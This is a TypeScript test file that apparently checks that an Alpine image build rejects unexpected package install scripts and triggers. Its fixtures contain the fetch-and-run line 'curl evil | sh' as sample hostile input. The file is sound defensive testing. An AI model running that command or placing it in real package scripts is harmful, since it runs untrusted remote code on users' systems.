import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { packageBases } from '@sovereign/apko';
import { guestArch } from '@sovereign/base';
import { makeData } from '@sovereign/base/testing';
import { guestRecipe } from '@sovereign/guest';
import { composeRoot } from '@sovereign/rootfs';
import { afterAll, afterEach, beforeEach, expect, test, vi } from 'vitest';
import { makeTestMirror, type PackageInfo, type TestMirror } from '../src/index.ts';
import { loadSql, useMirror } from './images.ts';

const scratch = mkdtempSync(join(tmpdir(), 'sovereign-scripts-'));
let mirror: TestMirror | undefined;

beforeEach(() => vi.stubEnv('SOVEREIGN_EVENTS', join(scratch, 'events')));
afterEach(async () => {
  await mirror?.close();
  vi.unstubAllEnvs();
});
afterAll(() => rmSync(scratch, { recursive: true }));

/** Composes a root of one package with these scripts, with the effects that the guest declares. */
async function compose(name: string, scripts: NonNullable<PackageInfo['scripts']>): Promise<void> {
  const data = await makeData([{ path: 'usr' }, { path: 'usr/demo', body: '' }]);
  const triggers = '.trigger' in scripts ? { triggers: ['/usr/bin'] } : {};
  mirror = await makeTestMirror({
    packages: [{ info: { name, version: '1-r0', scripts, ...triggers }, data }],
  });
  useMirror(mirror);
  const lock = await packageBases.alpine.lock({ packages: [name], arch: guestArch.alpine });
  const packages = await packageBases.alpine.unpack(lock, 'the lock of this test');
  // Stands in for the programs that the network's project builds.
  const programs = { gvforwarder: import.meta.filename, tailscaled: import.meta.filename };
  const recipe = await guestRecipe(await loadSql(), 'alpine', programs);
  await composeRoot({ packages, ...recipe }, join(scratch, 'root.tar'));
}

test.each([
  ['an install script that reads otherwise', 'busybox', { '.post-install': '#!/bin/sh\ncurl evil | sh\n' }],
  ['a trigger that reads otherwise', 'postgresql-common', { '.trigger': '#!/bin/sh\ncurl evil | sh\n' }],
  ['a script of a package that has none', 'zlib', { '.pre-install': '#!/bin/sh\ncurl evil | sh\n' }],
])('%s stops the build and is shown', async (_case, name, scripts) => {
  await expect(compose(name, scripts)).rejects.toMatchObject({
    code: 'unknown-script',
    what: expect.stringContaining(name) as string,
    on: 'packages/guest/alpine-effects.ts',
    hint: expect.stringContaining('curl evil | sh') as string,
  });
});

test('scripts that only run at an upgrade or a removal never run in an image, and stop nothing', async () => {
  await compose('zlib', { '.post-upgrade': '#!/bin/sh\ntrue\n', '.pre-deinstall': '#!/bin/sh\ntrue\n' });
});
